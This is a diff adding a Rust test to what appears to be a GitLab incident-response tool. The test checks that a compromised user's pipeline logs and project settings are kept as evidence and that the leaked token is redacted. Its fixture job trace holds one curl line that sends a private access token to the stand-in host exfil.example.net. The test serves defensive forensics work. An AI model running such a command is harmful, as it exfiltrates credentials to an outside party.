@@ -561,3 +561,56 @@ async fn a_leaked_runner_token_is_reset_and_the_new_one_lands_in_a_private_file(
     assert!(journal.contains(&glir_redact::fingerprint(new_token.trim())));
     sim.shutdown().await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_actors_pipeline_logs_and_project_settings_are_kept_as_evidence() {
+    let mut scenario = Scenario::demo();
+    scenario.jobs.push(glir_sim::scenario::Job {
+        id: 9100,
+        project: "acme/infra".into(),
+        name: "exfil".into(),
+        stage: None,
+        status: "success".into(),
+        git_ref: None,
+        pipeline_id: None,
+        user: "dana".into(),
+        created_at: Some("2026-11-25T02:40:00Z".parse().unwrap()),
+        started_at: None,
+        finished_at: None,
+        token: None,
+        trace: Some(
+            "$ curl -H 'PRIVATE-TOKEN: glpat-DemoLeakedDana0001' https://exfil.example.net\n"
+                .into(),
+        ),
+        artifacts: Vec::new(),
+        artifacts_expire_at: None,
+    });
+    let o = respond_and_apply(
+        scenario,
+        DEMO_ROOT,
+        Playbook::AccountCompromise,
+        Subject::User("dana".into()),
+        "2026-11-01T00:00:00Z",
+    )
+    .await;
+    let files: Vec<String> = o
+        .case
+        .manifest()
+        .unwrap()
+        .files
+        .into_iter()
+        .map(|f| f.path)
+        .collect();
+    for name in [
+        "state/project-acme_infra.json",
+        "state/project-acme_infra-approvals.json",
+        "jobs/acme_infra/9100.log",
+    ] {
+        assert!(files.iter().any(|p| p == name), "{name} not in {files:#?}");
+    }
+    let log =
+        std::fs::read_to_string(o.case.evidence_path("jobs/acme_infra/9100.log").unwrap()).unwrap();
+    assert!(log.contains("exfil.example.net"), "{log}");
+    assert!(!log.contains("glpat-DemoLeakedDana0001"), "{log}");
+    o.sim.shutdown().await;
+}
